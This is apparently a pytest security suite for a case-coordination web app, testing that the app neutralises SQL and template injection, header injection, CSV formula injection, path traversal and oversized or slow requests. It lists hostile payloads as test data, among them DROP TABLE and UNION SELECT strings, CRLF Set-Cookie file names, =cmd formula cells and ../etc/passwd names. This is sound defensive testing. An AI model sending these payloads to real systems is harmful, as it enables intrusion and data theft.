"""Hostile input, each refused or neutralised: SQL and template injection, header injection,
CSV formula injection, path traversal in file names, oversized and deeply nested JSON, and
slow uploads against a real gunicorn.

Every payload goes in through the same doors a user or a partner system uses (the API with a
token, the pages with a session), and is checked where it comes out (JSON, pages, headers,
CSV files, the evidence store on disk).
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import socket
import tempfile
import threading
import time
import urllib.parse
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest
import requests
from markupsafe import escape
from sqlalchemy import func, select

from coordination.accounts.models import Organisation, User
from coordination.alerts.models import Alert
from coordination.cases.models import Case
from coordination.core.db import get_session
from coordination.evidence.models import Evidence
from tests.conftest import bearer, csrf_token, sign_in
from tests.hostile_world import build_world

SQL = (
    "' OR '1'='1",
    "' OR 1=1 --",
    "'; DROP TABLE cases; --",
    '" OR ""="',
    "1 UNION SELECT email, password_hash FROM users --",
    "'||(SELECT pg_sleep(5))||'",
    "%",
    "_",
    "\\",
)
TEMPLATE = "{{7*7}} {{ config }} {% print(7*7) %} ${7*7} #{7*7} <%= 7*7 %>"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\0")  # ASVS 5.0 V1.2.10's list, and CR


def counts() -> tuple[int, int, int, int]:
    session = get_session()
    return tuple(  # type: ignore[return-value]
        session.scalar(select(func.count()).select_from(model)) for model in (Alert, Case, User, Organisation)
    )


# --- SQL injection ---------------------------------------------------------------------------------


def test_sql_injection_in_filters_matches_nothing_and_breaks_nothing(app, make_user, make_org):
    world = build_world(app, make_user, make_org)
    client = app.test_client()
    supervisor = world.headers("pjk_supervisor")
    before = counts()
    visible = client.get("/api/v1/audit", headers=supervisor).get_json()["total"]
    assert visible > 0
    for payload in SQL:
        for name in ("action", "actor"):
            response = client.get("/api/v1/audit", headers=supervisor, query_string={name: payload})
            assert response.status_code == 200, (name, payload, response.get_json())
            # A condition that an injection turned true would list every visible event (or more).
            assert response.get_json()["total"] == 0, (name, payload)
        for path, name in (
            ("/api/v1/audit", "object"),
            ("/api/v1/audit", "org"),
            ("/api/v1/audit", "since"),
            ("/api/v1/alerts", "status"),
            ("/api/v1/referrals", "box"),
            ("/api/v1/stats", "group_by"),
        ):
            response = client.get(path, headers=supervisor, query_string={name: payload})
            assert response.status_code == 400, (path, name, payload, response.status_code)
            assert name in response.get_json()["error"]["fields"], (path, name, payload)
        # The audit page reads the same filters from its form.
        web = sign_in(app.test_client(), world.users["pjk_supervisor"])
        page = web.get("/audit", query_string={"actor": payload, "action": payload})
        assert page.status_code in (200, 400), payload
        assert world.users["fiu_supervisor"].email not in page.get_data(as_text=True)
    assert counts() == before
    assert client.get("/api/v1/audit", headers=supervisor).get_json()["total"] >= visible


def test_sql_injection_in_json_fields_is_stored_and_returned_literally(app, make_user, make_org):
    world = build_world(app, make_user, make_org)
    client = app.test_client()
    analyst = world.headers("fiu_supervisor")
    for payload in SQL:
        before = counts()
        text = f"Kasus {payload}"
        created = client.post("/api/v1/cases", headers=analyst, json={"title": text, "summary": payload})
        assert created.status_code == 201, (payload, created.get_json())
        case_id = created.get_json()["id"]
        note = client.post(f"/api/v1/cases/{case_id}/notes", headers=analyst, json={"text": text})
        assert note.status_code == 201, note.get_json()
        shown = client.get(f"/api/v1/cases/{case_id}", headers=analyst).get_json()
        assert shown["title"] == text and shown["summary"] == payload
        assert [n["text"] for n in shown["notes"]] == [text]
        token = client.post("/api/v1/tokens", headers=analyst, json={"name": text})
        assert token.status_code == 201 and token.get_json()["token"]["name"] == text
        alerts, cases, users, orgs = counts()
        assert (alerts, cases, users, orgs) == (before[0], before[1] + 1, before[2], before[3])
    operator = world.headers("operator_admin")
    for payload in SQL[:5]:
        org = client.post("/api/v1/orgs", headers=operator, json={"name": f"Bank {payload}", "kind": "pjk"})
        assert org.status_code == 201, org.get_json()
        assert client.get(f"/api/v1/orgs/{org.get_json()['id']}", headers=operator).get_json()["name"] == (
            f"Bank {payload}"
        )


def test_sql_injection_in_credentials_is_an_ordinary_refusal(app, make_user):
    user = make_user("pjk", "member")
    client = app.test_client()
    for payload in SQL:
        response = client.get("/api/v1/me", headers={"Authorization": f"Bearer {payload}"})
        assert response.status_code == 401 and response.get_json()["error"]["code"] == "unauthorised"
        response = client.get("/api/v1/me", headers={"Authorization": f"Bearer smpl_{payload}"})
        assert response.status_code == 401
        web = app.test_client()
        token = csrf_token(web, "/login")
        for email, password in ((payload, "x" * 12), (user.email, payload + "x" * 12), (f"{user.email}{payload}", "")):
            page = web.post("/login", data={"email": email, "password": password, "csrf_token": token})
            assert page.status_code in (200, 400, 401), (email, password, page.status_code)
            assert "simpul_session" not in page.headers.get("Set-Cookie", "") or page.status_code != 302


# --- template injection ----------------------------------------------------------------------------


def test_template_syntax_is_stored_and_rendered_literally(app, make_user, make_org):
    """Jinja, Mako/ERB and JS template syntax in every kind of free text comes back as typed, in
    the JSON and in every page that shows it; nothing is evaluated (no 49, no configuration)."""
    world = build_world(app, make_user, make_org, text=TEMPLATE)
    ids = world.ids
    client = app.test_client()
    api_reads = [
        ("fiu_supervisor", f"/api/v1/cases/{ids['case_id']}", ("title", "summary")),
        ("pjk_supervisor", f"/api/v1/alerts/{ids['alert_id']}", ("narrative",)),
        ("police_supervisor", f"/api/v1/referrals/{ids['referral_id']}", ("message",)),
        ("fiu_supervisor", f"/api/v1/forum/meetings/{ids['meeting_id']}", ("title",)),
    ]
    for who, path, fields in api_reads:
        body = client.get(path, headers=world.headers(who)).get_json()
        for field in fields:
            assert body[field] == TEMPLATE, (path, field, body.get(field))
    shown = str(escape(TEMPLATE))
    pages = [
        ("fiu_supervisor", f"/cases/{ids['case_id']}"),
        ("pjk_supervisor", f"/alerts/{ids['alert_id']}"),
        ("police_supervisor", f"/referrals/{ids['referral_id']}"),
        ("fiu_supervisor", f"/forum/meetings/{ids['meeting_id']}"),
        ("police_supervisor", f"/forum/meetings/{ids['meeting_id']}"),
        ("fiu_supervisor", f"/evidence/{ids['evidence_id']}"),
    ]
    for who, path in pages:
        web = sign_in(app.test_client(), world.users[who])
        page = web.get(path)
        assert page.status_code == 200, (who, path)
        html = page.get_data(as_text=True)
        assert shown in html, (who, path)
        assert "49 " not in html.replace(shown, ""), (who, path)
        assert "SECRET_KEY" not in html and "&lt;Config" not in html, (who, path)


# --- header injection ------------------------------------------------------------------------------


def multipart(fields: dict[str, str], filename_header: str, content: bytes) -> tuple[bytes, str]:
    """A multipart body written by hand, so the file part's header can carry what a browser or a
    hostile client may send (an RFC 5987 `filename*` with encoded CR LF, a NUL...)."""
    boundary = "hostile-boundary-7d3f"
    parts = [
        f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'.encode()
        for name, value in fields.items()
    ]
    parts.append(
        f'--{boundary}\r\nContent-Disposition: form-data; name="file"; {filename_header}\r\n'
        f"Content-Type: application/octet-stream\r\n\r\n".encode()
        + content
        + b"\r\n"
    )
    return b"".join(parts) + f"--{boundary}--\r\n".encode(), f"multipart/form-data; boundary={boundary}"


TXT = b"Kronologi: korban dihubungi lewat WhatsApp pada 3 Maret.\n" * 20


def upload_raw(client, headers, case_id, filename_header, content=TXT):  # type: ignore[no-untyped-def]
    body, content_type = multipart({"category": "document"}, filename_header, content)
    return client.post(f"/api/v1/cases/{case_id}/evidence", headers=headers, data=body, content_type=content_type)


def test_file_names_cannot_inject_headers_into_downloads(app, make_user):
    police = make_user("police", "member")
    headers = bearer(police)
    client = app.test_client()
    case_id = client.post("/api/v1/cases", headers=headers, json={"title": "Kasus unduhan"}).get_json()["id"]
    names = [
        "filename*=UTF-8''laporan%0D%0ASet-Cookie%3A%20pwned%3D1%0D%0A.txt",
        "filename*=UTF-8''laporan%0ALocation%3A%20https%3A%2F%2Fevil.example.txt",
        'filename="laporan\\"; filename=evil.exe; x=\\".txt"',
        "filename*=UTF-8''laporan%E2%80%A8Set-Cookie%3A%20x%3D1.txt",  # U+2028 LINE SEPARATOR
        "filename*=UTF-8''%E2%80%AEtxt.exe",  # right-to-left override: shows as "exe.txt"
    ]
    web = sign_in(app.test_client(), police)
    for header in names:
        uploaded = upload_raw(client, headers, case_id, header)
        assert uploaded.status_code == 201, (header, uploaded.get_json())
        evidence_id = uploaded.get_json()["id"]
        stored = uploaded.get_json()["filename"]
        assert not re.search(r"[\x00-\x1f\x7f\u202e]", stored), stored
        for response in (
            client.get(f"/api/v1/evidence/{evidence_id}/content", headers=headers),
            web.get(f"/evidence/{evidence_id}/download"),
        ):
            assert response.status_code == 200, header
            assert response.data == TXT
            assert "Set-Cookie" not in response.headers and "Location" not in response.headers
            dispositions = response.headers.getlist("Content-Disposition")
            assert len(dispositions) == 1 and dispositions[0].startswith("attachment; filename*=UTF-8''")
            value = dispositions[0]
            assert not re.search(r"[\x00-\x1f\x7f\"; ]", value.split("filename*=UTF-8''", 1)[1]), value
            assert urllib.parse.unquote(value.split("''", 1)[1]) == stored


def test_redirect_targets_cannot_split_headers_or_leave_the_site(app, make_user):
    user = make_user("pjk", "member")
    web = sign_in(app.test_client(), user)
    token = csrf_token(web)
    for target in (
        "/alerts\r\nSet-Cookie: pwned=1",
        "/alerts\nLocation: https://evil.example",
        "/\t/evil.example",
        "//evil.example",
        "https://evil.example/",
        "/\\evil.example",
    ):
        response = web.post("/language", data={"csrf_token": token, "lang": "en", "next": target})
        assert response.status_code == 302, (target, response.status_code)
        location = response.headers["Location"]
        assert "\r" not in location and "\n" not in location and "pwned" not in response.headers.get("Set-Cookie", "")
        parsed = urllib.parse.urlsplit(urllib.parse.urljoin("http://localhost/", location))
        assert parsed.netloc == "localhost" and not parsed.path.startswith(("//", "/\\")), (target, location)
    login = app.test_client()
    page = login.get("/login", query_string={"next": "/alerts\r\nSet-Cookie: pwned=1"})
    assert page.status_code == 200


# --- CSV formula injection -------------------------------------------------------------------------


def cells(response) -> list[str]:  # type: ignore[no-untyped-def]
    assert response.status_code == 200, response.status_code
    assert response.mimetype == "text/csv"
    return [cell for row in csv.reader(io.StringIO(response.get_data(as_text=True))) for cell in row]


def formulas(values: list[str]) -> list[str]:
    return [cell for cell in values if cell.startswith(FORMULA_START)]


def test_every_csv_export_neutralises_formulas(app, make_user, make_org):
    """A valid e-mail address can be a formula (`=cmd|'/C calc'!A0@...`); an attempted sign-in
    puts anything in the audit trail. No exported cell may start a formula."""
    world = build_world(app, make_user, make_org, text='=HYPERLINK("http://evil.example/?"&A1,"klik")')
    client = app.test_client()
    bank = world.users["pjk_supervisor"].organisation
    payload_email = "=cmd|'/C calc'!A0@bank.example.id"
    hostile = make_user("pjk", "member", org=bank, email=payload_email)
    assert client.post("/api/v1/tokens", headers=bearer(hostile), json={"name": "+SUM(1,2)"}).status_code == 201
    login = app.test_client()
    login.post(
        "/login",
        data={"email": "@SUM(1+1)*cmd", "password": "x" * 12, "csrf_token": csrf_token(login, "/login")},
    )
    # The audit trail, as the bank's supervisor and as its administrator export it.
    for who in ("pjk_supervisor", "pjk_admin"):
        exported = cells(client.get("/api/v1/audit/export.csv", headers=world.headers(who)))
        assert formulas(exported) == [], who
        assert "'" + payload_email in exported, who
    # The statistics pack (API) and a forum meeting's pack (page), with every dimension.
    stats = client.get(
        "/api/v1/stats.csv",
        headers=world.headers("fiu_supervisor"),
        query_string={"from": "2020-01-01", "to": "2030-12-31", "group_by": "typology"},
    )
    assert formulas(cells(stats)) == []
    web = sign_in(app.test_client(), world.users["fiu_supervisor"])
    assert formulas(cells(web.get(f"/forum/meetings/{world.ids['meeting_id']}/stats.csv"))) == []


def test_every_formula_start_is_neutralised_and_plain_text_is_not():
    from coordination.core.spreadsheet import neutralise

    for lead in FORMULA_START:
        assert neutralise(f"{lead}1+1") == f"'{lead}1+1"
    assert [neutralise(v) for v in ("Bank Nusantara", 42, None, "1-2")] == ["Bank Nusantara", "42", "", "1-2"]


# --- path traversal --------------------------------------------------------------------------------

TRAVERSALS = [
    'filename="../../../../etc/passwd"',
    'filename="/etc/passwd"',
    'filename="..\\\\..\\\\..\\\\windows\\\\win.ini"',
    "filename*=UTF-8''..%2F..%2F..%2Ftmp%2Fsimpul-pwned.txt",
    "filename*=UTF-8''laporan%00.txt%00..%2F..%2Fx",
    'filename="....//....//simpul-pwned.txt"',
    'filename=".."',
    'filename=".htaccess"',
    'filename="%2e%2e%2f%2e%2e%2fsimpul-pwned.txt"',
]


def tree(root: Path) -> set[str]:
    return {str(p.relative_to(root)) for p in root.rglob("*")}


def test_file_names_cannot_traverse_out_of_the_store(app, make_user):
    config = app.extensions["simpul.config"]
    store_dir: Path = config.evidence_dir
    outside = config.data_dir.parent
    police = make_user("police", "member")
    headers = bearer(police)
    client = app.test_client()
    case_id = client.post("/api/v1/cases", headers=headers, json={"title": "Kasus nama berkas"}).get_json()["id"]
    before_outside = {p.name for p in outside.iterdir()}
    before_data = tree(config.data_dir)
    stored_ids = []
    for header in TRAVERSALS:
        response = upload_raw(client, headers, case_id, header)
        assert response.status_code == 201, (header, response.get_json())
        body = response.get_json()
        name = body["filename"]
        assert "/" not in name and "\\" not in name and "\x00" not in name and not name.startswith("."), name
        stored_ids.append(body["id"])
    # Only the store changed, and only by ciphertext files named after the evidence ids.
    assert {p.name for p in outside.iterdir()} == before_outside
    added = tree(config.data_dir) - before_data
    assert added, "nothing was stored"
    for path in added:
        full = (config.data_dir / path).resolve()
        assert full.is_relative_to(store_dir.resolve()), path
        assert "passwd" not in path and "pwned" not in path and "win.ini" not in path, path
    rows = get_session().scalars(select(Evidence).where(Evidence.case_id == uuid.UUID(case_id))).all()
    assert {str(r.id) for r in rows} == set(stored_ids)
    assert not (Path(tempfile.gettempdir()) / "simpul-pwned.txt").exists()
    # The screening upload's name is as harmless (its copy lives only for the run, under the data dir).
    from tests.test_screening_runs import export_csv

    analyst = bearer(make_user("pjk", "member"))
    run = client.post(
        "/api/v1/screening",
        headers=analyst,
        data={"file": (io.BytesIO(export_csv()), "../../../../tmp/simpul-pwned.csv")},
        content_type="multipart/form-data",
    )
    assert run.status_code == 202, run.get_json()
    app.extensions["simpul.jobs"].wait(timeout=120)
    assert "/" not in run.get_json()["filename"] and not run.get_json()["filename"].startswith(".")
    assert not (Path(tempfile.gettempdir()) / "simpul-pwned.csv").exists()
    assert {p.name for p in outside.iterdir()} == before_outside


# --- oversized and deeply nested JSON --------------------------------------------------------------


@pytest.mark.parametrize(
    "body",
    [
        b"[" * 100_000 + b"]" * 100_000,
        b'{"a":' * 50_000 + b"1" + b"}" * 50_000,
        b'{"title": "Kasus", "subjects": ' + b"[" * 20_000 + b"]" * 20_000 + b"}",
        b'{"title": "Kasus", "summary": ' + b"[" * 900 + b"]" * 900 + b"}",  # under the parser's limit
    ],
    ids=["arrays-100k", "objects-50k", "nested-in-a-field-20k", "nested-in-a-field-900"],
)
def test_deeply_nested_json_is_a_400_naming_the_body(app, make_user, body):
    headers = bearer(make_user("police", "member"))
    before = counts()
    response = app.test_client().post("/api/v1/cases", headers=headers, data=body, content_type="application/json")
    assert response.status_code == 400, response.get_data(as_text=True)[:300]
    error = response.get_json()["error"]
    assert error["code"] == "validation_failed" and error["fields"], error
    assert counts() == before


def test_oversized_form_posts_to_pages_are_413(app, make_user):
    user = make_user("fiu", "member")
    web = sign_in(app.test_client(), user)
    token = csrf_token(web, "/cases/new")
    before = counts()
    response = web.post("/cases/new", data={"csrf_token": token, "title": "Kasus", "summary": "x" * (3 * 1024 * 1024)})
    assert response.status_code == 413
    assert counts() == before


# --- a real server: chunked oversized bodies, slow uploads ------------------------------------------


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, dict[str, str]]]:
    """gunicorn as deployed (deploy/gunicorn.conf.py: gthread), one worker with four threads so
    that what one slow client holds is visible, on a SQLite installation of its own."""
    from tests.servers import Gunicorn, base_env, populate

    data_dir = tmp_path_factory.mktemp("hostile-server")
    url = f"sqlite:///{data_dir / 'simpul.db'}"
    people = populate(data_dir, url)
    instance = Gunicorn(base_env(data_dir, url), workers=1, threads=4, log_path=data_dir / "gunicorn.log")
    instance.start()
    try:
        yield instance.url, {name: person.token for name, person in people.items()}
    finally:
        instance.stop()


def raw_request(url: str, head: str, body_parts: list[bytes], pause: float = 0.0) -> tuple[int, bytes]:
    host, port = urllib.parse.urlsplit(url).netloc.split(":")
    with socket.create_connection((host, int(port)), timeout=30) as sock:
        sock.sendall(head.encode())
        for part in body_parts:
            sock.sendall(part)
            time.sleep(pause)
        sock.shutdown(socket.SHUT_WR)
        answer = b""
        while chunk := sock.recv(65536):
            answer += chunk
    status = int(answer.split(b" ", 2)[1])
    return status, answer.split(b"\r\n\r\n", 1)[1]


def test_oversized_chunked_json_is_413_without_a_length(server):
    url, tokens = server
    piece = b'{"title": "' + b"a" * (1024 * 1024)
    chunks = [f"{len(piece):x}\r\n".encode() + piece + b"\r\n"] * 3 + [b"0\r\n\r\n"]
    head = (
        "POST /api/v1/cases HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n"
        f"Authorization: Bearer {tokens['fiu']}\r\nContent-Type: application/json\r\n"
        "Transfer-Encoding: chunked\r\n\r\n"
    )
    status, body = raw_request(url, head, chunks)
    assert status == 413, body[:300]
    assert json.loads(body)["error"]["code"] == "too_large"
    listed = requests.get(f"{url}/api/v1/cases", headers={"Authorization": f"Bearer {tokens['fiu']}"}, timeout=10)
    assert listed.json()["total"] == 0


THREADS = 4  # the `server` fixture's gunicorn: 1 worker x 4 threads
SLOW_CLIENTS = int(os.environ.get("SIMPUL_SLOW_CLIENTS", "2"))


def test_slow_uploads_hold_a_thread_each_not_the_server(server):
    """Two clients trickle a body at five bytes a second; meanwhile other requests are answered at
    once. A client that gives up mid-body leaves nothing behind.

    SIMPUL_SLOW_CLIENTS=4 (as many as the instance has threads) measures what the reference
    nginx must prevent: then other requests wait for a slow body to end (docs/reliability.md)."""
    url, tokens = server
    body = json.dumps({"title": "Kasus lambat"}).encode()
    head = (
        "POST /api/v1/cases HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n"
        f"Authorization: Bearer {tokens['fiu']}\r\nContent-Type: application/json\r\n"
        f"Content-Length: {len(body)}\r\n\r\n"
    )
    results: list[tuple[int, bytes]] = []
    slow = [
        threading.Thread(target=lambda: results.append(raw_request(url, head, [bytes([b]) for b in body], 0.2)))
        for _ in range(SLOW_CLIENTS)
    ]
    for thread in slow:
        thread.start()
    time.sleep(0.5)  # all of them are mid-body now
    latencies = []
    for _ in range(10):
        started = time.monotonic()
        assert requests.get(f"{url}/login", timeout=30).status_code == 200
        latencies.append(time.monotonic() - started)
    print(f"slow uploads: /login p100 {max(latencies) * 1000:.0f} ms while {SLOW_CLIENTS} bodies trickled")
    if SLOW_CLIENTS < THREADS:
        assert all(thread.is_alive() for thread in slow), "the slow clients should still be sending"
        assert max(latencies) < 1.0, latencies
    # A client that stops half-way and goes away: its thread is released, nothing is written.
    host, port = urllib.parse.urlsplit(url).netloc.split(":")
    with socket.create_connection((host, int(port)), timeout=10) as sock:
        sock.sendall(head.encode() + body[: len(body) // 2])
        time.sleep(0.3)
    for thread in slow:
        thread.join(timeout=60)
    assert [status for status, _ in results] == [201] * SLOW_CLIENTS
    listed = requests.get(f"{url}/api/v1/cases", headers={"Authorization": f"Bearer {tokens['fiu']}"}, timeout=10)
    assert listed.json()["total"] == SLOW_CLIENTS
